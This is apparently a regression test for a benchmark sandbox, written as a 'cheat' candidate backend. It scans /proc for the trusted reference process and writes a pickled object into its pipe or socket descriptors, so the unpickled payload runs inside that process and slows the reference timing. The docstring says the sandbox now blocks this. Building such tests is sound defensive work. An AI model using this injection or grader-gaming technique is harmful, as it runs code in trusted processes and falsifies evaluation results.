"""Cheat: write a pickled request into the reference sandbox's request channel through
``/proc/<pid>/fd/<n>``: the reference unpickles what the parent sends, so the payload runs in the
trusted process (here: it makes eager sleep, which inflates the candidate's speedup, and stays for
every later candidate). The trusted processes are now another uid's and not dumpable: listing
their descriptors is refused by the kernel (``sandbox_denied``)."""
import os
import pickle
import struct
import time


class _Slow:
    def __reduce__(self):
        return (time.sleep, (0.001,))


def _inject():
    me = os.getpid()
    for pid in sorted(os.listdir("/proc")):
        if not pid.isdigit() or int(pid) in (me, 1):
            continue
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            if b"sandbox.py" not in f.read():
                continue
        for fd in os.listdir(f"/proc/{pid}/fd"):
            if "socket" in os.readlink(f"/proc/{pid}/fd/{fd}") or "pipe" in os.readlink(f"/proc/{pid}/fd/{fd}"):
                data = pickle.dumps({"op": "modules", "x": _Slow()})
                with open(f"/proc/{pid}/fd/{fd}", "wb") as f:
                    f.write(struct.pack("<I", len(data)) + data)


def backend(gm, example_inputs):
    _inject()
    return gm
